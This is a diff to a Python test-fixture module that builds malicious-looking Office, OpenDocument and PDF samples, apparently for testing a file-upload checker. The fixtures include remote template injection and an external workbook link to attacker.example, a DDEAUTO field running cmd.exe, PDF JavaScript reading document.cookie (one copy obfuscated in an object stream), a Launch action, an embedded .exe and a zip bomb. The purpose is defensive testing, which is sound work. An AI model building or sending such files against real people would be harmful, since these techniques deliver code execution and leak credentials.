@@ -130,6 +130,8 @@ def _zip(members, *, compression=zipfile.ZIP_DEFLATED):
 
 WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
 DOCUMENT_XML = (
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
     '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
@@ -138,14 +140,19 @@ DOCUMENT_XML = (
 )
 
 
-def docx(extra_members=()):
+def docx(extra_members=(), *, body=None, compression=zipfile.ZIP_DEFLATED):
+    """A Word document; ``body`` replaces the paragraphs of its w:body (WordprocessingML)."""
+    document = DOCUMENT_XML if body is None else DOCUMENT_XML.replace(
+        DOCUMENT_XML[DOCUMENT_XML.index("<w:body>") + 8 : DOCUMENT_XML.index("</w:body>")], body
+    )
     return _zip(
         [
             ("[Content_Types].xml", _content_types([("/word/document.xml", WORD_MAIN)])),
             ("_rels/.rels", _RELS.format(target="word/document.xml")),
-            ("word/document.xml", DOCUMENT_XML),
+            ("word/document.xml", document),
             *extra_members,
-        ]
+        ],
+        compression=compression,
     )
 
 
@@ -189,14 +196,18 @@ def docx_with_many_members(count):
     return docx(extra_members=[(f"word/media/part{i}.xml", "<x/>") for i in range(count)])
 
 
-def xlsx():
+SHEET_DATA = '<row r="1"><c r="A1" t="inlineStr"><is><t>Files audited</t></is></c><c r="B1"><v>30</v></c></row>'
+
+
+def xlsx(extra_members=(), *, sheet_data=SHEET_DATA, main=XLSX_MAIN):
+    """An Excel workbook of one sheet; ``sheet_data`` is the sheet's rows (SpreadsheetML)."""
     return _zip(
         [
             (
                 "[Content_Types].xml",
                 _content_types(
                     [
-                        ("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
+                        ("/xl/workbook.xml", main),
                         ("/xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
                     ]
                 ),
@@ -220,9 +231,9 @@ def xlsx():
                 "xl/worksheets/sheet1.xml",
                 '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
-                '<row r="1"><c r="A1" t="inlineStr"><is><t>Files audited</t></is></c><c r="B1"><v>30</v></c></row>'
-                "</sheetData></worksheet>",
+                f"{sheet_data}</sheetData></worksheet>",
             ),
+            *extra_members,
         ]
     )
 
@@ -230,7 +241,21 @@ def xlsx():
 ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
 
 
-def odt(extra_members=()):
+def odf_content(text="<text:p>Supervision records, quarter 3.</text:p>"):
+    """An OpenDocument content.xml whose office:text holds ``text``."""
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>\n'
+        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
+        'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
+        f"<office:body><office:text>{text}</office:text></office:body></office:document-content>"
+    )
+
+
+def odt(extra_members=(), *, text="<text:p>Supervision records, quarter 3.</text:p>"):
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
         # OpenDocument: "mimetype" first and stored uncompressed, so that its type can be read at a fixed offset.
@@ -243,14 +268,7 @@ def odt(extra_members=()):
             '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
             "</manifest:manifest>",
         )
-        archive.writestr(
-            "content.xml",
-            '<?xml version="1.0" encoding="UTF-8"?>\n'
-            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
-            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
-            "<office:body><office:text><text:p>Supervision records, quarter 3.</text:p></office:text></office:body>"
-            "</office:document-content>",
-        )
+        archive.writestr("content.xml", odf_content(text))
         for name, data in extra_members:
             archive.writestr(name, data)
     return buffer.getvalue()
@@ -262,6 +280,225 @@ def odt_with_macro():
 
 def plain_zip():
     return _zip([("minutes.txt", "Minutes."), ("attendance.csv", "a,b\n1,2\n")])
+
+
+# --- Office files carrying active content (issue 11): each what an attacker would send -----------------------
+
+VBA_PROJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # the start of an OLE compound file
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def relationships(*relationships):
+    """A .rels part: (type, target, external) for each relationship."""
+    items = "".join(
+        f'<Relationship Id="rId{i}" Type="{REL}{kind}" Target="{target}"'
+        + (' TargetMode="External"' if external else "")
+        + "/>"
+        for i, (kind, target, external) in enumerate(relationships, start=1)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'
+    )
+
+
+def xlsm():
+    """A macro-enabled workbook, as Excel writes one: the macro content type and a VBA project."""
+    return xlsx([("xl/vbaProject.bin", VBA_PROJECT)], main=XLSM_MAIN)
+
+
+def xlsx_that_libmagic_calls_zip():
+    """A workbook whose declared parts come after a hundred others: libmagic then only says "zip", and the
+    package's own declaration ([Content_Types].xml) decides what it is."""
+    workbook = zipfile.ZipFile(io.BytesIO(xlsx()))
+    padding = [(f"customXml/item{i}.xml", "<x/>") for i in range(100)]
+    return _zip(padding + [(info.filename, workbook.read(info)) for info in workbook.infolist()])
+
+
+def docx_embedding(member, data):
+    """A Word document with ``data`` embedded as word/embeddings/``member``, as Word embeds a workbook."""
+    return docx([(f"word/embeddings/{member}", data)])
+
+
+def docx_with_remote_template(target="http://attacker.example/template.dotm"):
+    """Template injection: word/settings.xml points its attached template at another computer."""
+    return docx(
+        [
+            ("word/settings.xml", '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+             '<w:attachedTemplate r:id="rId1"/></w:settings>'),
+            ("word/_rels/settings.xml.rels", relationships(("attachedTemplate", target, True))),
+        ]
+    )
+
+
+def docx_with_hyperlink(target):
+    body = (
+        '<w:p><w:hyperlink r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+        "<w:r><w:t>Working Together 2023</w:t></w:r></w:hyperlink></w:p>"
+    )
+    return docx([("word/_rels/document.xml.rels", relationships(("hyperlink", target, True)))], body=body)
+
+
+def xlsx_with_external_workbook(target=r"file:///\\attacker.example\share\budget.xlsx"):
+    """A link to another workbook on a network share, as Excel writes one (xl/externalLinks/)."""
+    return xlsx(
+        [
+            ("xl/externalLinks/externalLink1.xml",
+             '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+             '<externalBook r:id="rId1"/></externalLink>'),
+            ("xl/externalLinks/_rels/externalLink1.xml.rels", relationships(("externalLinkPath", target, True))),
+        ]
+    )
+
+
+def docx_with_field(code, *, split_at=None):
+    """A Word field with ``code`` as its command, written over two runs when ``split_at`` is given."""
+    parts = [code] if split_at is None else [code[:split_at], code[split_at:]]
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in parts)
+    return docx(
+        body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+DDE_FIELD = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'
+
+
+def odt_with(text="", extra_members=()):
+    return odt(extra_members, text=f"<text:p>Supervision records, quarter 3.</text:p>{text}")
+
+
+def zip_of_zeros(megabytes):
+    """A plain zip of one file of zeros: a few hundred kilobytes that inflate to ``megabytes``."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        with archive.open("zeros.bin", "w", force_zip64=True) as member:
+            for _ in range(megabytes):
+                member.write(b"\x00" * (1024 * 1024))
+    return buffer.getvalue()
+
+
+def nested_docx(depth, innermost=None):
+    """Word documents embedded in each other ``depth`` times, around ``innermost`` (by default a plain one)."""
+    data = docx() if innermost is None else innermost
+    for _ in range(depth):
+        data = docx_embedding("Microsoft_Word_Document.docx", data)
+    return data
+
+
+# --- PDFs carrying active content, written object by object ------------------------------------------------
+
+
+def raw_pdf(objects, *, root=1):
+    """A PDF of the numbered ``objects`` (the bytes between "obj" and "endobj") with a classic xref table."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
+    size = max(objects) + 1
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+    for number in range(1, size):
+        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
+    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
+    return bytes(out)
+
+
+_PAGES = {
+    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+}
+
+
+def pdf_with_catalog(entries, *, page=b"", extra=None):
+    """A one-page PDF whose catalog has ``entries`` (and its page ``page``) besides /Type and /Pages."""
+    objects = {1: b"<< /Type /Catalog /Pages 2 0 R " + entries + b" >>", **_PAGES, **(extra or {})}
+    objects[3] = objects[3][:-2] + page + b" >>"
+    return raw_pdf(objects)
+
+
+def pdf_with_open_action_javascript():
+    return pdf_with_catalog(b"/OpenAction << /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>")
+
+
+def pdf_with_javascript_in_an_object_stream():
+    """The JavaScript action lives, compressed, in an object stream, behind an escaped name, on the page's /AA."""
+    action = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
+    header = b"4 0 "
+    stream = zlib.compress(header + action)
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R >>",
+        2: _PAGES[2],
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>",
+        5: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(stream))
+        + stream + b"\nendstream",
+    }
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
+    offsets[6] = len(out)
+    rows = b"\x00" + struct.pack(">IH", 0, 65535)
+    for number in range(1, 7):
+        if number == 4:
+            rows += b"\x02" + struct.pack(">IH", 5, 0)  # object 4 is the first in object stream 5
+        else:
+            rows += b"\x01" + struct.pack(">IH", offsets[number], 0)
+    out += (
+        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
+        + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
+    )
+    return bytes(out)
+
+
+def pdf_with_launch_action():
+    return pdf_with_catalog(b"/OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")
+
+
+def pdf_with_attachment():
+    return pdf_with_catalog(
+        b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>",
+        extra={
+            4: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
+            5: b"<< /Length 2 >>\nstream\nMZ\nendstream",
+        },
+    )
+
+
+def pdf_with_rich_media():
+    return pdf_with_catalog(
+        b"", page=b" /Annots [4 0 R]", extra={4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"}
+    )
+
+
+def pdf_with_xfa_form():
+    return pdf_with_catalog(
+        b"/AcroForm << /Fields [] /XFA 4 0 R >>", extra={4: b"<< /Length 7 >>\nstream\n<xdp:/>\nendstream"}
+    )
+
+
+def pdf_with_web_link():
+    """An ordinary link to a web page: nothing runs, so it is accepted."""
+    return pdf_with_catalog(
+        b"",
+        page=b" /Annots [4 0 R]",
+        extra={4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.gov.uk/) >> >>"},
+    )
+
+
+def pdf_encrypted(password="secret"):
+    from pypdf import PdfReader, PdfWriter
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
+    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
 
 
 # --- helpers for the evidence tests -------------------------------------------------------------------------
